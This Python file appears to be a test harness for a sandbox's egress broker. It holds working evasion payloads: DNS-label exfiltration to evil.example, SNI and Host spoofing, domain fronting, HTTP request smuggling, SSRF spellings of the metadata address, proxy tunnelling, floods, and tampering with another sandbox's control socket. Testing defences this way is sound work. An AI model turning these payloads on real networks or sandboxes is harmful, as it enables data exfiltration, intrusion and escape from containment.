# SPDX-License-Identifier: Apache-2.0
"""Attacks on the egress broker that need more than one packet: names, first bytes, proxies, floods.

    network.py ATTEMPT [ARGUMENT...]

As payload.h: "ok WHAT" for each thing that was held back, "BAD WHAT" for each that got through; exit status 1 when one did, 2 when
nothing was tried.  Runs inside of a sandbox, and outside of it to show that it works.
"""
import ctypes
import os
import resource
import socket
import ssl
import struct
import sys
import threading
import time

tried = through = 0


def held(what):
    global tried
    tried += 1
    print("ok", what, flush=True)


def broke(what):
    global tried, through
    tried += 1
    through += 1
    print("BAD", what, flush=True)


def attempt(what, function):
    """The function returns something when it got through."""
    try:
        got = function()
    except (OSError, EOFError) as e:
        held(f"{what}: {e}")
        return
    if got:
        broke(f"{what}: {got!r}")
    else:
        held(what)


def dial(host, port):
    s = socket.create_connection((host, port), 10)
    s.settimeout(10)
    return s


def everything(s):
    data = b""
    try:
        while True:
            more = s.recv(65536)
            if not more:
                return data
            data += more
    except ConnectionError:
        return data


# --- names ---


def question(name, kind=1, klass=1, raw=None):
    labels = raw if raw is not None else [x.encode() for x in name.split(".")]
    text = b"".join(bytes([len(x)]) + x for x in labels) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + text + struct.pack(">HH", kind, klass)


def unverified():
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def udp(data, address, port):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.4)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1) if ":" not in address else None
    s.sendto(data, (address, port))
    try:
        return s.recv(4096)
    except TimeoutError:
        return b""


def stream(data, address, port, name=None):
    s = dial(address, port)
    if name is not None:
        s = unverified().wrap_socket(s, server_hostname=name or None)
    s.sendall(data)
    return s.recv(4096)


def leak(server="93.184.216.53"):
    """Data as labels, by every way to a resolver.  What comes back is not judged here: who hears it is."""
    resolver, n = "93.184.216.53", 0

    def label(how):
        nonlocal n
        n += 1
        return f"secret{n}-{how}.evil.example"

    def go(what, function):
        try:
            print("tried", what, len(function()))
        except OSError as e:
            print("tried", what, e)

    for kind in (1, 28, 16, 65, 5, 12, 10, 255):
        go("UDP", lambda: udp(question(label("udp"), kind), resolver, 53))
    go("UDP IPv6", lambda: udp(question(label("udp6")), "2606:2800:220::34", 53))

    def tcp(q):
        return struct.pack(">H", len(q)) + q

    go("TCP", lambda: stream(tcp(question(label("tcp"))), resolver, 53))
    go("DoT", lambda: stream(tcp(question(label("dot"))), server, 853, ""))
    go("DoT", lambda: stream(tcp(question(label("dot"))), server, 853, "resolver.example"))
    for name in ("", "resolver.example", "web.example"):
        get = f"GET /dns-query?dns={label('doh')} HTTP/1.1\r\nHost: resolver.example\r\n\r\n"
        go("DoH", lambda: stream(get.encode(), server, 443, name))
    for port in (784, 853):
        go("DoQ", lambda: udp(question(label("doq")), resolver, port))
    for group, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355)):
        go("mDNS, LLMNR", lambda: udp(question(label("mdns")), group, port))
    for name in (label("libc"), label("libc") + ".", "resolver.example"):
        go("the C library", lambda: socket.getaddrinfo(name, 443))
    global tried
    tried += n


ODD_LABELS = [
    [b"web\0", b"example"], [b"web.example"], [b"web.example\0"], [b"web", b"example\0evil"], [b"w eb", b"example"],
    [b"web\r\nHost: evil", b"example"], [b"web", b"exam\x1b[31mple"], [b"evil@web", b"example"], [b"web%00", b"example"],
    [b"\xff\xfe", b"example"], ["wéb".encode(), b"example"], [b"xn--wb-bja\xcc", b"example"], [b"xn--", b"example"],
    [b"a" * 63] * 4, [b"-web", b"example"], [b"web-", b"example"], [b"*", b"example"], [b"2130706433"], [b"0x7f", b"1"], [b"127", b"0", b"0", b"1"],
]


def names():
    """Names that are none.  Got through: an address as the answer."""
    for labels in ODD_LABELS:

        def one():
            answer = udp(question("", raw=labels), "9.9.9.9", 53)
            return answer and struct.unpack(">H", answer[6:8])[0]

        attempt(repr(labels), one)
    # Not a question at all: too short, many, compressed, an answer.
    good = question("web.example")
    for what, data in (
        ("short", good[:11]),
        ("two questions", good[:4] + b"\0\2" + good[6:] + good[12:]),
        ("a loop", good[:12] + b"\xc0\x0c" + good[-4:]),
        ("an answer", good[:2] + b"\x81\x80" + good[4:]),
        ("an update", good[:2] + b"\x28\0" + good[4:]),
        ("a name without end", good[:20]),
        ("other class", question("web.example", klass=3)),
        ("transfer", question("web.example", kind=252)),
    ):
        attempt(what, lambda: (lambda a: a and struct.unpack(">H", a[6:8])[0])(udp(data, "9.9.9.9", 53)))


# --- first bytes ---


def vector(n, data):
    return len(data).to_bytes(n, "big") + data


def extension(kind, data):
    return struct.pack(">H", kind) + vector(2, data)


def server_name(*names):
    return extension(0, vector(2, b"".join(bytes([t]) + vector(2, n) for t, n in names)))


def hello(extensions, padding=0):
    """The handshake message."""
    rest = extension(10, vector(2, b"\0\x17")) + extension(13, vector(2, b"\4\3")) + extension(43, b"\2\3\4")
    if padding:
        rest += extension(21, bytes(padding))
    body = b"\3\3" + bytes(32) + vector(1, b"") + vector(2, b"\x13\1") + vector(1, b"\0") + vector(2, extensions + rest)
    return b"\1" + vector(3, body)


def records(message, size=16384, version=b"\3\1"):
    return b"".join(b"\x16" + version + vector(2, message[i : i + size]) for i in range(0, len(message), size))


def first_bytes():
    good, evil = (0, b"web.example"), (0, b"other.example")
    ech = extension(0xFE0D, b"\0\0\1\0\1\1" + vector(2, bytes(32)) + vector(2, bytes(128)))
    yield "TLS: another name", records(hello(server_name(evil)))
    yield "TLS: no name", records(hello(b""))
    yield "TLS: two names", records(hello(server_name(good, evil)))
    yield "TLS: two names, the other way", records(hello(server_name(evil, good)))
    yield "TLS: two extensions", records(hello(server_name(good) + server_name(evil)))
    yield "TLS: the same twice", records(hello(server_name(good) + server_name(good)))
    yield "TLS: a name of another kind", records(hello(server_name((1, b"web.example"))))
    yield "TLS: and one of another kind", records(hello(server_name((1, b"x"), good)))
    yield "TLS: no name in the list", records(hello(extension(0, b"\0\0")))
    yield "TLS: empty extension", records(hello(extension(0, b"")))
    for odd in (b"web.example\0.other.example", b"web.example\0", b" web.example", b"web.example ", b"web.example\r\n", b"x@web.example",
                b"web.example%00", b"web..example", b".web.example", b"a" * 300 + b".example", b"web.example:443", b"[::1]", b"127.0.0.1",
                b"*.example", b"\xffweb.example", b"other.example.", b"WEB.example.other.example"):
        yield f"TLS: {odd[:40]!r}", records(hello(server_name((0, odd))))
    yield "TLS: a list longer than its extension", records(hello(extension(0, b"\xff\xff\0" + vector(2, b"web.example"))))
    yield "TLS: ECH", records(hello(server_name(good) + ech))
    yield "TLS: ECH in front", records(hello(ech + server_name(good)))
    yield "TLS: ECH of the inner kind", records(hello(server_name(good) + extension(0xFE0D, b"\1")))
    yield "TLS: ESNI", records(hello(server_name(good) + extension(0xFFCE, bytes(64))))
    yield "TLS: ECH alone", records(hello(ech))
    for size in (1, 5, 100):
        yield f"TLS: another name, in records of {size}", records(hello(server_name(evil)), size)
    yield "TLS: another name behind a record's worth of padding", records(hello(server_name(evil), 20000))
    yield "TLS: too long", records(hello(server_name(good), 60000))
    two = records(hello(server_name(good)))
    yield "TLS: two hellos in one record", records(hello(server_name(good)) + hello(server_name(evil)))
    yield "TLS: an alert, then the hello", b"\x15\3\1\0\2\1\0" + two
    yield "TLS: an empty record first", b"\x16\3\1\0\0" + two
    yield "TLS: change cipher spec first", b"\x14\3\1\0\1\1" + two
    yield "TLS: application data", b"\x17\3\3\0\5hello"
    yield "TLS: a record of another version", records(hello(server_name(good)), version=b"\2\0")
    yield "SSL 2 hello", b"\x80\x2e\1\3\3\0\x15\0\0\0\x10" + bytes(37)
    yield "DTLS", b"\x16\xfe\xfd" + bytes(8) + hello(server_name(good))

    def http(*lines):
        return b"\r\n".join(lines) + b"\r\n\r\n"

    host, other = b"Host: web.example", b"Host: other.example"
    get = b"GET / HTTP/1.1"
    yield "HTTP: another Host", http(get, other)
    yield "HTTP: no Host", http(get, b"X-Host: web.example")
    yield "HTTP: empty Host", http(get, b"Host:")
    yield "HTTP: two Hosts", http(get, host, other)
    yield "HTTP: two Hosts, the other way", http(get, other, host)
    yield "HTTP: the same twice", http(get, host, host)
    yield "HTTP: a list of Hosts", http(get, b"Host: web.example, other.example")
    for odd in (b"web.example\0.other.example", b"web.example%00.other.example", b"web.example@other.example", b"other.example#web.example",
                b"web.example:80@other.example", b"web.example other.example", b"web.example:80:80", b"web.example:", b"web.example:0x50",
                b"[web.example]", b"[::1]", b"127.0.0.1", b"0x7f.1", b"2130706433", b"web.example/", b"http://web.example", b"web.example;x", b"\xc3\xa9"):
        yield f"HTTP: Host {odd!r}", http(get, b"Host: " + odd)
    yield "HTTP: a blank before the colon", http(get, b"Host : other.example", host)
    yield "HTTP: a folded Host", http(get, b"Host: web.example", b" other.example")
    yield "HTTP: a Host that is folded away", http(get, b"X: y", b" Host: web.example", other)
    yield "HTTP: bare LF", get + b"\nHost: web.example\n\n"
    yield "HTTP: bare LF hides a Host", get + b"\r\nX: y\nHost: other.example\r\n" + host + b"\r\n\r\n"
    yield "HTTP: bare CR hides a Host", get + b"\r\nX: y\rHost: other.example\r\n" + host + b"\r\n\r\n"
    yield "HTTP: a NUL in a header", http(get, b"X: \0", host)
    yield "HTTP: vertical tab", http(get, b"Host:\x0bother.example", host)
    yield "HTTP: absolute target", http(b"GET http://other.example/ HTTP/1.1", host)
    yield "HTTP: absolute target, both", http(b"GET http://other.example/ HTTP/1.1", other)
    yield "HTTP: target with a user", http(b"GET http://web.example@other.example/ HTTP/1.1", host)
    yield "HTTP: target with a back slash", http(b"GET http://other.example\\@web.example/ HTTP/1.1", host)
    yield "HTTP: target of another scheme", http(b"GET ftp://web.example/ HTTP/1.1", host)
    yield "HTTP: no target", http(b"GET HTTP/1.1", host)
    yield "HTTP: a blank too many", http(b"GET  / HTTP/1.1", host)
    yield "HTTP: version 0.9", b"GET /\r\n\r\n"
    yield "HTTP: version 1.0 without Host", http(b"GET / HTTP/1.0")
    yield "HTTP: version 1.2", http(b"GET / HTTP/1.2", host)
    yield "HTTP: version 3", http(b"GET / HTTP/3.0", host)
    yield "HTTP/2 without TLS", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)
    yield "HTTP: CONNECT elsewhere", http(b"CONNECT other.example:443 HTTP/1.1", other)
    yield "HTTP: CONNECT elsewhere, our Host", http(b"CONNECT other.example:443 HTTP/1.1", host)
    yield "HTTP: CONNECT to an address", http(b"CONNECT 10.1.2.3:5432 HTTP/1.1", host)
    yield "HTTP: empty lines first", b"\r\n\r\n" + http(get, host)
    yield "HTTP: a head without end", http(get, b"X: " + b"y" * 70000, host)
    yield "SOCKS 4", b"\4\1\0\x50\1\2\3\4\0"
    yield "SOCKS 5", b"\5\1\0"
    yield "PROXY protocol", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + http(get, host)
    yield "PROXY protocol 2", b"\r\n\r\n\0\r\nQUIT\n" + bytes(32)
    yield "ssh", b"SSH-2.0-OpenSSH_9.2\r\n"
    yield "zeros", bytes(5000)
    yield "a blank", b" "
    yield "nothing, then the end", b""


def heads(port="9"):
    """Each as the first bytes to a server that says how many came.  Got through: it says so."""
    for what, data in first_bytes():

        def one():
            s = dial("web.example", int(port))
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
            n = everything(s).strip()
            return n not in (b"", b"0") and n

        attempt(what, one)

    def slowly():
        s = dial("web.example", int(port))
        for byte in records(hello(server_name((0, b"other.example"))), 20):
            s.sendall(bytes([byte]))
            time.sleep(0.001)
        s.shutdown(socket.SHUT_WR)
        return everything(s).strip() not in (b"", b"0")

    attempt("TLS: another name, byte for byte", slowly)


def good_heads(port="9"):
    """What must get through: only so means the other attempt something.  Each must arrive unchanged, at a server that echoes."""
    good = server_name((0, b"web.example"))
    for what, data in (
        ("one record", records(hello(good))),
        ("capitals", records(hello(server_name((0, b"WEB.Example"))))),
        ("small records", records(hello(good), 3)),
        ("larger than a record", records(hello(good, 20000))),
        ("last in a long hello", records(hello(extension(0xFABC, bytes(30000)) + good))),
        ("HTTP", b"PUT / HTTP/1.1\r\nhOST:web.example:7\r\nContent-Length: 4\r\n\r\nbody"),
        ("HTTP, absolute", b"GET http://WEB.example/ HTTP/1.1\r\nHost: web.example\r\n\r\n"),
    ):
        s = dial("web.example", int(port))
        for i in range(0, len(data), 1000):
            s.sendall(data[i : i + 1000])
            time.sleep(0.001)
        s.shutdown(socket.SHUT_WR)
        if everything(s) == data:
            held(what)
        else:
            broke(what + " did not arrive")


def fronts(ca):
    """To www.example, for a page of hidden.example, which has the same address.  Got through: it is had."""

    def get(name, host, protocol):
        s = dial("www.example", 443 if protocol else 80)
        if protocol:
            s = unverified().wrap_socket(s, server_hostname=name)
        s.sendall(f"GET /who HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return b"site hidden" in everything(s)

    attempt("Host", lambda: get(None, "hidden.example", False))
    attempt("server name", lambda: get("hidden.example", "hidden.example", True))
    attempt("server name, but for the Host", lambda: get("hidden.example", "www.example", True) or None)
    attempt("no server name", lambda: get(None, "hidden.example", True))


def within(ca):
    """The limit of looking at what is in the open (oc-sandbox-egress(5)): within TLS the Host may be anybody on the same peer."""

    def one():
        s = unverified().wrap_socket(dial("www.example", 443), server_hostname="www.example")
        s.sendall(b"GET /who HTTP/1.1\r\nHost: hidden.example\r\nConnection: close\r\n\r\n")
        return b"site hidden" in everything(s)

    attempt("Host within TLS", one)


def smuggled():
    """Bytes of one connection, the last request of which is for somebody else; and how they are cut."""
    host = b"Host: www.example\r\n"
    get = b"GET /who HTTP/1.1\r\n" + host
    evil = b"GET /who HTTP/1.1\r\nHost: hidden.example\r\nConnection: close\r\n\r\n"
    post = b"POST /upload HTTP/1.1\r\n" + host
    chunked = b"Transfer-Encoding: chunked\r\n"
    size = b"%x" % len(evil)
    yield "a second request", get + b"\r\n" + evil
    yield "a third request", (get + b"\r\n") * 2 + evil
    yield "behind an empty line", get + b"\r\n\r\n\r\n" + evil
    yield "behind HEAD", b"HEAD /who HTTP/1.1\r\n" + host + b"\r\n" + evil
    yield "behind OPTIONS *", b"OPTIONS * HTTP/1.1\r\n" + host + b"\r\n" + evil
    yield "behind an error", b"GET /absent HTTP/1.1\r\n" + host + b"\r\n" + evil
    yield "behind a method that is none", b"WHAT /who HTTP/1.1\r\n" + host + b"\r\n" + evil
    yield "behind HTTP/1.0 that is kept alive", b"GET /who HTTP/1.0\r\nConnection: keep-alive\r\n" + host + b"\r\n" + evil
    yield "behind a body", post + b"Content-Length: 5\r\n\r\nhello" + evil
    yield "behind a body of GET", get + b"Content-Length: 5\r\n\r\nhello" + evil
    yield "as a body of GET", get + b"Content-Length: %d\r\n\r\n" % len(evil) + evil
    yield "as a body", post + b"Content-Length: %d\r\n\r\n" % len(evil) + evil
    yield "behind no body", post + b"Content-Length: 0\r\n\r\n" + evil
    yield "behind chunks", post + chunked + b"\r\n5\r\nhello\r\n0\r\n\r\n" + evil
    yield "behind no chunk", post + chunked + b"\r\n0\r\n\r\n" + evil
    yield "behind a trailer", post + chunked + b"\r\n0\r\nX: y\r\n\r\n" + evil
    yield "as a trailer", post + chunked + b"\r\n0\r\n" + evil
    yield "as a chunk", post + chunked + b"\r\n" + size + b"\r\n" + evil + b"\r\n0\r\n\r\n"
    for what, head in (
        ("length and coding", b"Content-Length: %d\r\n" % (len(evil) + 5) + chunked),
        ("coding and length", chunked + b"Content-Length: %d\r\n" % (len(evil) + 5)),
        ("coding twice", chunked + b"Transfer-Encoding: identity\r\n"),
        ("coding in a list", b"Transfer-Encoding: identity, chunked\r\n"),
        ("coding with a tab", b"Transfer-Encoding:\tchunked\r\n"),
        ("coding with a control character", b"Transfer-Encoding: \x0bchunked\r\n"),
        ("coding of no name", b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n" % (len(evil) + 5)),
        ("coding with a blank", b"Transfer-Encoding : chunked\r\n"),
        ("coding in quotes", b'Transfer-Encoding: "chunked"\r\n'),
        ("folded coding", b"Transfer-Encoding:\r\n chunked\r\n"),
        ("length twice", b"Content-Length: 5\r\nContent-Length: %d\r\n" % (len(evil) + 5)),
        ("lengths in a list", b"Content-Length: 5, 5\r\n"),
        ("length with a sign", b"Content-Length: +5\r\n"),
        ("length below zero", b"Content-Length: -1\r\n"),
        ("length in hex", b"Content-Length: 0x5\r\n"),
        ("length too long", b"Content-Length: 18446744073709551621\r\n"),
        ("length with a blank", b"Content-Length: 5 5\r\n"),
        ("an underscore", b"Content_Length: 500\r\n"),
    ):
        yield what, post + head + b"\r\n0\r\n\r\n" + evil
        yield what + ", from GET", get + head + b"\r\n0\r\n\r\n" + evil
    for line in (b"0x5", b"+5", b"-5", b" 5", b"5 5", b"5;x=\n", b"5;x=\r", b"\0", b"", b"10000000000000005", b"5\x0b", b"5,"):
        yield f"chunk of {line!r}", post + chunked + b"\r\n" + line + b"\r\nhello\r\n0\r\n\r\n" + evil
    yield "a chunk that ends with LF", post + chunked + b"\r\n5\nhello\n0\n\n" + evil
    yield "a chunk that is longer", post + chunked + b"\r\n5\r\nhelloXX0\r\n\r\n" + evil
    for token in (b"websocket", b"h2c", b"TLS/1.0", b"x"):
        ask = get + b"Connection: Upgrade\r\nUpgrade: " + token + b"\r\n"
        yield f"behind an upgrade to {token!r} that is not agreed to", ask + b"\r\n" + evil
        yield f"behind an upgrade to {token!r} with a body", ask + b"Content-Length: 5\r\n\r\nhello" + evil
        yield f"behind a later upgrade to {token!r}", get + b"\r\n" + ask + b"\r\n" + evil
    yield "behind CONNECT to the same", b"CONNECT www.example:80 HTTP/1.1\r\nHost: www.example:80\r\n\r\n" + evil
    yield "behind an expectation", post + b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello" + evil
    yield "instead of what was expected", post + b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\n" + evil


def smuggle():
    """Got through: the page of hidden.example."""

    def one(data, cut):
        s = dial("www.example", 80)
        s.settimeout(1.5)
        got = b""
        try:
            if cut == "in pieces":
                for i in range(0, len(data), 7):
                    s.sendall(data[i : i + 7])
            elif cut == "in two":
                at = data.rindex(b"GET /who")
                s.sendall(data[:at])
                time.sleep(0.03)
                s.sendall(data[at:])
            else:
                s.sendall(data)
            s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        try:
            while b"site hidden" not in got:
                more = s.recv(65536)
                if not more:
                    break
                got += more
        except OSError:
            pass
        s.close()
        return b"site hidden" in got

    work = [(w, d, c) for w, d in smuggled() for c in ("at once", "in pieces", "in two")]

    def run(mine):
        for what, data, cut in mine:
            attempt(f"{what}, {cut}", lambda: one(data, cut))

    threads = [threading.Thread(target=run, args=(work[i::16],)) for i in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def retry(ca):
    """A server that wants another key gets a second ClientHello, in the open; this one names somebody else."""
    lib = ctypes.CDLL("libssl.so.3")
    crypto = ctypes.CDLL("libcrypto.so.3")
    for f in (lib.TLS_client_method, lib.SSL_CTX_new, lib.SSL_new, crypto.BIO_s_mem, crypto.BIO_new):
        f.restype = ctypes.c_void_p
    p = ctypes.c_void_p
    context = p(lib.SSL_CTX_new(p(lib.TLS_client_method())))
    # SSL_CTRL_SET_GROUPS_LIST: the first is the one that a key is sent for, and the server does not have it.
    lib.SSL_CTX_ctrl(context, 92, ctypes.c_long(0), b"X448:P-256")
    t = p(lib.SSL_new(context))
    incoming, outgoing = (p(crypto.BIO_new(p(crypto.BIO_s_mem()))) for _ in range(2))
    lib.SSL_set_bio(t, incoming, outgoing)

    def name(text):
        lib.SSL_ctrl(t, 55, ctypes.c_long(0), text)  # SSL_CTRL_SET_TLSEXT_HOSTNAME

    def flush(s):
        buf = ctypes.create_string_buffer(65536)
        n = crypto.BIO_read(outgoing, buf, 65536)
        if n > 0:
            s.sendall(buf.raw[:n])

    def one():
        s = dial("www.example", 443)
        name(b"www.example")
        lib.SSL_connect(t)
        flush(s)
        name(b"hidden.example")
        for _ in range(10):
            data = s.recv(65536)
            if not data:
                return None
            crypto.BIO_write(incoming, data, len(data))
            done = lib.SSL_connect(t)
            flush(s)
            if done == 1:
                break
        request = b"GET /who HTTP/1.1\r\nHost: hidden.example\r\nConnection: close\r\n\r\n"
        lib.SSL_write(t, request, len(request))
        flush(s)
        data = everything(s)
        crypto.BIO_write(incoming, data, len(data))
        text = b""
        for _ in range(5):
            buf = ctypes.create_string_buffer(65536)
            n = lib.SSL_read(t, buf, 65536)
            text += buf.raw[: max(n, 0)]
        return b"by hidden" in text

    attempt("another name in the second ClientHello", one)


def proxies():
    """By way of a proxy: one that is not allowed, and one that is, for web.example:3128."""
    connect = b"CONNECT other.example:443 HTTP/1.1\r\nHost: %s\r\n\r\n"

    def via(host, data):
        s = dial(host, 3128)
        s.sendall(data)
        if data[:1] == b"\5":
            s.recv(2)
            s.sendall(b"\5\1\0\3" + vector(1, b"other.example") + b"\1\xbb")
        return b"through the proxy" in everything(s)

    for host in ("web.example", "93.184.216.34"):
        for what, data in (("Host of the target", connect % b"other.example"), ("Host of the proxy", connect % b"web.example")):
            attempt(f"CONNECT by {host}, {what}", lambda: via(host, data))
        attempt(f"SOCKS by {host}", lambda: via(host, b"\5\1\0"))


# --- addresses ---


def addresses():
    """Somewhere else by number, in every spelling that a C library takes.  Got through: an answer."""
    for text in ("127.0.0.1", "127.1", "0177.0.0.1", "0x7f.0.0.1", "2130706433", "017700000001", "0x7f000001", "127.0.0.01", "0",
                 "0.0.0.0", "10.1.2.3", "0x0a010203", "10.66051", "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376",
                 "93.184.216.34", "1572395042", "0x5db8d822", "::1", "::", "::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1",
                 "::ffff:10.1.2.3", "::ffff:169.254.169.254", "::ffff:93.184.216.34", "::ffff:0:93.184.216.34", "64:ff9b::5db8:d822",
                 "64:ff9b::7f00:1", "2002:5db8:d822::1", "2002:7f00:1::1", "2606:2800:220::34", "fe80::1", "fe80::1%lo", "fec0::1",
                 "fd00:ec2::254", "ff02::1", "2001:db8::1", "localhost", "localhost.", "a.localhost", "ip6-localhost", "host.docker.internal",
                 "metadata.google.internal", "hosts-file.example"):
        for port in (80, 8080, 443):

            def one():
                s = dial(text, port)
                if port == 443:
                    s = unverified().wrap_socket(s, server_hostname="web.example")
                s.sendall(b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n")
                return everything(s)

            attempt(f"{text} {port}", one)


def leads(count):
    """Names of somebody else that are allowed, and lead to where nobody should get."""
    for i in range(int(count)):
        for port in (80, 8080):

            def one():
                s = dial(f"lead{i}.example", port)
                s.sendall(b"GET / HTTP/1.1\r\nHost: lead%d.example\r\n\r\n" % i)
                return everything(s)

            attempt(f"lead{i}.example {port}", one)


def guesses():
    """Addresses that stand for names, without having asked for the name."""
    for i in range(1, 300):

        def one():
            s = dial(f"198.{18 + i % 2}.{i // 256}.{i % 256}", 80)
            s.sendall(b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n")
            return everything(s)

        attempt(f"guess {i}", one)


def sources():
    """One source port for many destinations: each connection must lead to its own."""
    want = {"www.example": b"site www.example by", "other.example": b"hello from http"}
    for port in (40001, 65501 - 20000):
        for name, text in list(want.items()) * 2:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("0.0.0.0", port))
            s.settimeout(5)
            s.connect((name, 80))
            s.sendall(b"GET /who HTTP/1.1\r\nConnection: close\r\nHost: %s\r\n\r\n" % name.encode())
            if text in everything(s):
                held(f"{name} from {port}")
            else:
                broke(f"{name} from {port} was somebody else")
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.close()
    # At the same time, from one port, to one that is allowed and one that is not.
    socks = []
    for name in ("other.example", "93.184.216.80"):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(("0.0.0.0", 40002))
        s.settimeout(5)
        try:
            s.connect((name, 80))
        except OSError:
            pass
        socks.append(s)

    def one(s):
        s.sendall(b"GET /who HTTP/1.1\r\nConnection: close\r\nHost: other.example\r\n\r\n")
        return everything(s)

    if b"hello from http" in one(socks[0]):
        held("the allowed one of two")
    else:
        broke("the allowed one of two is gone")
    attempt("the other one of two", lambda: one(socks[1]))


# --- floods ---


def all_descriptors():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def works():
    s = dial("web.example", 80)
    s.sendall(b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n")
    return b"hello from http" in everything(s)


def half_open(count):
    """Connections that say a part of a head and then nothing.  What is open already goes on; the place is given back."""
    count = min(int(count), all_descriptors() - 100)
    busy = dial("web.example", 7)
    socks, refused = [], 0
    for i in range(count):
        try:
            s = dial("web.example", 80)
            s.sendall((b"GET / HTTP/1.1\r\nX: ", records(hello(b"", 5000))[:4000], b"")[i % 3])
            socks.append(s)
        except OSError:
            refused += 1
    busy.sendall(b"still")
    if busy.recv(100) == b"still":
        held(f"what was open goes on, {len(socks)} beside it")
    else:
        broke("what was open has ended")
    for s in socks:
        s.close()
    for _ in range(100):
        try:
            if works():
                held("new ones are served afterwards")
                return
        except OSError:
            pass
        time.sleep(0.1)
    broke("nothing is served afterwards")


def rate(count):
    """COUNT connections that are used, from eight threads."""
    count, failed, begin = int(count), [], time.monotonic()

    def run(n):
        for _ in range(n):
            try:
                s = dial("web.example", 7)
                s.sendall(b"x")
                if s.recv(1) != b"x":
                    failed.append("no echo")
                s.close()
            except OSError as e:
                failed.append(e)

    threads = [threading.Thread(target=run, args=(count // 8,)) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    took = time.monotonic() - begin
    print(f"{count} connections in {took:.1f} s", file=sys.stderr)
    if failed or count / took * 60 < 10000:
        broke(f"{len(failed)} of {count} failed ({failed[:1]}), {took:.1f} s")
    else:
        held(f"{count} connections, more than 10,000 a minute")


def questions(seconds):
    """A flood of questions, and junk, by UDP and by many TCP connections that ask and do not read."""
    all_descriptors()
    socket.getaddrinfo("web.example", 80)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setblocking(False)
    end, n, socks = time.monotonic() + float(seconds), 0, []
    q = question("x.wild.example")
    while time.monotonic() < end:
        n += 1
        try:
            u.sendto(question(f"n{n % 5000}.evil.example") if n % 3 else os.urandom(40), ("8.8.8.8", 53))
        except OSError:
            pass
        if n % 100 == 0:
            try:
                s = socket.create_connection(("8.8.8.8", 53), 1)
                s.setblocking(False)
                s.send((struct.pack(">H", len(q)) + q) * 1000)
                socks.append(s)
            except OSError:
                pass
    for s in socks:
        s.close()
    for _ in range(50):
        try:
            if works():
                held(f"served after {n} questions")
                return
        except OSError:
            time.sleep(0.1)
    broke("nothing is served after a flood")


# --- the doors of sandboxes ---


def door(place):
    """The control socket of another sandbox, below a directory that is shown to this one: have it allow something."""
    import json

    doors = [os.path.join(r, f) for r, _, files in os.walk(place) for f in files if f == "control"]
    for path in doors:
        for request in (
            {"op": "net.change", "list": "allow", "remove": False, "rules": ["other.example"]},
            {"op": "net.rules"},
        ):

            def one():
                s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                s.settimeout(5)
                s.connect(path)
                s.send(json.dumps(request).encode())
                answer = s.recv(65536)
                return b'"ok":true' in answer and answer

            attempt(f"{path} {request['op']}", one)
    if not doors:
        held("no door is to be seen")


def held_open(flag):
    """One connection, used until it ends; FLAG.up appears when it is there."""
    s = dial("web.example", 7)
    other = dial("other.example", 80)
    open(flag + ".up", "w").close()
    end, n = time.monotonic() + 15, 0
    while time.monotonic() < end:
        try:
            s.sendall(b"x")
            if not s.recv(1):
                break
            n += 1
        except OSError:
            break
        time.sleep(0.01)
    else:
        return broke("the connection lives on")
    held(f"the connection ended after {n} bytes")
    attempt("and no new one begins", lambda: everything(dial("web.example", 7)))
    other.sendall(b"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n")
    if b"hello from http" in everything(other):
        held("the other rule's goes on")
    else:
        broke("the other rule's has ended too")


# --- the end of the broker ---


def bereaved(flag):
    """Uses the network until FLAG appears, the broker being dead then; tries everything again, also in its place."""
    s = dial("web.example", 7)
    s.sendall(b"x")
    s.recv(1)
    open(flag + ".up", "w").close()
    while not os.path.exists(flag):
        time.sleep(0.01)
    attempt("the old connection", lambda: s.sendall(b"y") or everything(s))
    for host in ("198.18.0.1", "93.184.216.34", "2606:2800:220::34", "8.8.8.8"):

        def one():
            c = dial(host, 80)
            c.sendall(b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n")
            return everything(c)

        attempt(f"{host} afterwards", one)
    attempt("a question afterwards", lambda: udp(question("web.example"), "9.9.9.9", 53))
    # In its place: we reach ourselves, and nobody else.
    own = socket.socket()
    own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    own.bind(("127.0.0.1", 65501))
    own.listen()
    c = dial("93.184.216.34", 80)
    peer, _ = own.accept()
    peer.sendall(b"ourselves")
    if c.recv(100) == b"ourselves":
        held("in its place there is nobody but us")
    else:
        broke("in its place")


def main():
    table = {f.__name__: f for f in (leak, names, heads, good_heads, fronts, within, smuggle, retry, proxies, addresses, leads, guesses, sources,
                                     half_open, rate, questions, bereaved, door, held_open)}
    table[sys.argv[1]](*sys.argv[2:])
    if not tried:
        print("nothing was tried", file=sys.stderr)
